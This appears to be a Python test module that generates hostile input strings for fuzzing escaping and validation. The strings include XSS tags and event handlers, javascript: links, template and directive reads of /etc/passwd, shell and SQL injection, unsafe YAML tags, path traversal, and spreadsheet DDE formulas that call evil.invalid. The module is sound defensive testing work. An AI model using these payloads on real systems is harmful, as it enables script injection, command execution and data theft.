"""Hostile texts, built from a list of kinds: what a row, a parameter or a scenario may bring along.

Those that run, run ``pwned()`` or set ``window.pwned``, which no page does by itself.
"""

from collections.abc import Iterator
from itertools import product

RUN = "window.pwned=1"
WRAPPERS = (
    "{}",
    '">{}',
    "'>{}",
    "</td></table>{}",
    "</script>{}",
    "x-->{}",
    "</template>{}",
    "]]>{}",
)
TAGS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<math><mi xlink:href="javascript:{RUN}">x</mi></math>',
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<body onload={RUN}>",
    "<style>*{display:none!important}</style>",
    "<base href='https://evil.invalid/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<div style='position:fixed;inset:0;background:red'>",
    "<form action=https://evil.invalid><input name=q>",
)
EVENTS = (
    "onclick",
    "onmouseover",
    "onfocus",
    "onpointerenter",
    "onanimationstart",
    "ontoggle",
    "onload",
    "onerror",
    "onwheel",
)
QUOTES = ('"', "'", "`", "' x='", '" x="', '\\"', "&quot;", "&#34;")
LINKS = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "javascript&colon;{}",
    "javascript:/*x*/{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:image/svg+xml,<svg onload={}>",
    "//evil.invalid/{}",
    "https://evil.invalid/?{}",
    "file:///etc/passwd#{}",
    'https://a.invalid/"onmouseover="{}',
    "[x](javascript:{})",
    "![x](javascript:{})",
    "<javascript:{}>",
    "https://javascript:{}@x.invalid",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{{ config }}",
    "{% include '/etc/passwd' %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{number}`open-vs-closed.mmlu-records-mean`",
    "{claim}`x`",
    "{raw}`x`",
    "```{raw} html\n<script>window.pwned=1</script>\n```",
    "```{include} /etc/passwd\n```",
    "```{literalinclude} ../../../../etc/passwd\n```",
    "```{code-cell}\nraise SystemExit\n```",
    "```{eval-rst}\n.. raw:: html\n\n   <script>window.pwned=1</script>\n```",
    "```{toctree}\n../*\n```",
    "```{csv-table}\n:file: /etc/passwd\n```",
    "{download}`/etc/passwd`",
    ".. include:: /etc/passwd",
    ":raw-html:`<b>`",
    "|substitution|",
    "[^footnote]: x",
    "(target)=",
    "% comment",
    "x\n+++",
    "x\n---",
    "***",
    "# Heading",
    "> quote",
    "| a | b |\n|---|---|",
    "`open",
    "<!-- comment",
    "$$x$$",
    "\\input{/etc/passwd}",
    "\\href{javascript:x}{y}",
    "[[alpha.rows]]",
    "[[no.such]]",
    "[[",
    "]]",
    "%(name)s",
    "%s%n%x",
    "{0.__class__}",
    "{name!r}",
    "{",
    "}",
    "__import__('os').system('touch pwned')",
    "'; DROP TABLE models; --",
    "$(touch pwned)",
    "`touch pwned`",
    "; touch pwned",
    "| touch pwned",
    "&& touch pwned",
    "\\'); touch('pwned",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\x",
    "~/.ssh/id",
    "....//....//pwned",
    "%2e%2e%2fpwned",
    "a/../../pwned",
    "./pwned",
    "*",
    "**/*",
    "?",
    "[a-z]*",
    "{a,b}",
    "con",
    "nul",
    "aux.csv",
    ".",
    "..",
    "...",
    "/",
    "//",
    "\\\\host\\share",
    "a/b",
    "a\\b",
    "pwned.html",
    "index.html",
    "_static/hundredmodels.js",
    "file:pwned",
    "a:b",
    "a|b",
    "a\nb",
)
YAML = (
    "!!python/object/apply:os.system ['touch pwned']",
    "!!python/name:os.system",
    "!!binary aGk=",
    "!!python/module:os",
    "&a [*a, *a]",
    "*alias",
    "<<: {a: 1}",
    "? complex",
    "a:\n- item",
    "key: value",
    "| literal",
    "!!set {a}",
    "%YAML 1.1",
    "a\n--- {a: 1}",
    "!!timestamp 2001-01-01",
    "~",
    "null",
    "no",
    "010",
    "0x1F",
    "1_000",
    "12:30",
    "1e400",
    ".inf",
    ".nan",
)
NUMBERS = (
    "9" * 400,
    "1e999",
    "0." + "0" * 300 + "1",
    "NaN",
    "Infinity",
    "9007199254740993",
    "0x7fffffff",
    "1" * 5000,
    "٣٤",
    "1,2,3",
    "1e-400",
    "00000000000000000000001",
    "1/0",
    "½",
    "²",
)
DEEP = (
    "[" * 3000,
    "[" * 500 + "]" * 500,
    '{"a":' * 500 + "1" + "}" * 500,
    "(" * 3000,
    "<b>" * 500,
    "&amp;" * 300,
    "&lt;" * 300,
    "<" * 2000,
    ">" * 500,
    '"' * 301,
    "''" * 200,
    '{"$schema":"https://evil.invalid/x.json","data":{"url":"https://evil.invalid/x"}}',
    '{"__proto__":{"pwned":1}}',
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
)
WIDE = (
    "W" * 300,
    "W" * 3000,
    "中" * 500,
    "W\u0301" * 200,
    "e" + "\u0301" * 200,
    "-".join("x" * 300),
    "_" * 400,
    "W " * 500,
    "https://x.invalid/" + "a" * 600,
    "\n" * 50 + "x",
    "\ufdfd" * 40,
)
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.invalid/?"&A1)',
    "@SUM(A1)",
    "+A1",
    "-A1",
    "-2+3+cmd|' /C calc'!A0",
    "=IMPORTXML(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "\uff20A1",
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("https://evil.invalid")',
)
HIDDEN = (
    "\x01\x07\x08\x0b\x0c\x1b\x7f\x85\u00ad\u061c\u180e\u200b\u200c\u200d\u200e\u200f\u2028\u2029"
    "\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069\ufeff\ufff9\U000e0041"
)
UNSEEN = (
    *(f"GPT{char}-4" for char in HIDDEN),
    "\u202e" + "gpj.exe",
    "\x1b]8;;https://evil.invalid\x07x",
    "a\tb",
    "a\rb",
)


def running() -> Iterator[str]:
    """Yield what would run in a page that wrote it as it is."""
    for wrapper, tag in product(WRAPPERS, TAGS):
        yield wrapper.format(tag)
    for quote, event in product(QUOTES, EVENTS):
        yield f"x{quote} {event}={quote}{RUN}"
        yield f"x{quote} autofocus tabindex=0 {event}={RUN} x={quote}"
    for link in LINKS:
        yield link.format(RUN)
        yield " " + link.format("pwned()")


REFUSED = (*FORMULAS, *UNSEEN)
"""What no cell may hold."""
LET_IN = (*running(), *TEMPLATES, *PATHS, *YAML, *NUMBERS, *DEEP, *WIDE)
"""What is only text."""
ALL = tuple(dict.fromkeys((*LET_IN, *REFUSED)))
